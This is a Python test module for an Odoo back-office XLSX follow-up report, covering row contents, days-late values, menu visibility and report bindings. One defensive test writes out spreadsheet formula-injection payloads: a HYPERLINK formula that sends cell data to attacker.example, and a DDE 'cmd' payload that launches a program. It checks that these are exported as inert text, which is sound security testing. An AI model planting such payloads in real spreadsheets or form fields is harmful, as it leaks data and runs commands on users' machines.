from datetime import date

from freezegun import freeze_time

from odoo import Command
from odoo.addons.bo_base.tests.common import new_bo_user, xlsx_workbook
from odoo.tests import TransactionCase, tagged
from odoo.tools.safe_eval import safe_eval


@tagged("post_install", "-at_install", "bo_dates")
class TestFollowUpXlsx(TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.clerk = new_bo_user(cls.env, "report_clerk", "Report Clerk", "bo_base.group_bo_user")
        cls.partner = cls.env["res.partner"].create({"name": "Ferramenta Test S.r.l."})
        cls.report = cls.env.ref("bo_reports.action_report_bo_follow_up_xlsx")

    def _schedule(self, xmlid, deadline, summary):
        return self.partner.activity_schedule(
            xmlid, date_deadline=deadline, summary=summary, user_id=self.clerk.id
        )

    def test_follow_ups_sheet_lists_activities_with_days_late(self):
        late = self._schedule("bo_base.mail_activity_type_bo_escalation", date(2026, 3, 2), "Late")
        soon = self._schedule("bo_base.mail_activity_type_bo_deadline", date(2026, 3, 12), "Soon")
        with freeze_time("2026-03-10"):
            content, file_type = (
                self.env["ir.actions.report"]
                .with_user(self.clerk)
                ._render(self.report, (soon | late).ids, {})
            )
        self.assertEqual(file_type, "xlsx")
        sheet = xlsx_workbook(content, formulas=True).active
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0][0], "Document")
        self.assertEqual(len(rows), 3)
        first, second = rows[1], rows[2]
        self.assertEqual(first[0], "Ferramenta Test S.r.l.")
        self.assertEqual(first[1], "Overdue Escalation")
        self.assertEqual(first[2], "Late")
        self.assertEqual(first[3], "Report Clerk")
        self.assertEqual(first[5], 8)
        self.assertEqual(second[2], "Soon")
        self.assertEqual(second[5], 0)

    def test_user_text_starting_with_equals_stays_text(self):
        """A summary or a document name typed as a formula must not run in Excel."""
        self.partner.name = '=HYPERLINK("http://attacker.example/?"&A1,"Apri")'
        attacks = [
            '=HYPERLINK("http://attacker.example/?"&C3,"Dettagli")',
            "=1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ]
        activities = self.env["mail.activity"]
        for summary in attacks:
            activities |= self._schedule(
                "bo_base.mail_activity_type_bo_deadline", date(2026, 3, 12), summary
            )
        content, _file_type = (
            self.env["ir.actions.report"]
            .with_user(self.clerk)
            ._render(self.report, activities.ids, {})
        )
        sheet = xlsx_workbook(content, formulas=True).active
        cells = [sheet.cell(row=row, column=col) for row in (2, 3, 4) for col in (1, 3)]
        for cell in cells:
            self.assertEqual(cell.data_type, "s", f"{cell.coordinate} must be text")
        self.assertEqual(
            sorted(sheet.cell(row=row, column=3).value for row in (2, 3, 4)), sorted(attacks)
        )
        self.assertTrue(sheet.cell(row=2, column=1).value.startswith("=HYPERLINK"))
        self.assertFalse(sheet._hyperlinks)

    def test_managers_find_follow_ups_under_reporting(self):
        menu = self.env.ref("bo_reports.menu_bo_follow_up_analysis")
        self.assertNotIn(menu.id, self.env["ir.ui.menu"].with_user(self.clerk)._visible_menu_ids())
        self.clerk.group_ids = [Command.link(self.env.ref("bo_base.group_bo_manager").id)]
        self.assertIn(menu.id, self.env["ir.ui.menu"].with_user(self.clerk)._visible_menu_ids())
        self._schedule("bo_base.mail_activity_type_bo_deadline", date(2026, 3, 12), "Listed")
        self.env["res.partner"].create({"name": "Other"}).activity_schedule(
            "mail.mail_activity_data_todo", summary="Not a follow-up", user_id=self.clerk.id
        )
        listed = self.env["mail.activity"].search(safe_eval(menu.action.domain))
        self.assertEqual(listed.mapped("summary"), ["Listed"])

    def test_report_is_offered_on_activities_to_back_office_users(self):
        self.assertEqual(self.report.binding_model_id.model, "mail.activity")
        self.assertIn(self.env.ref("bo_base.group_bo_user"), self.report.group_ids)
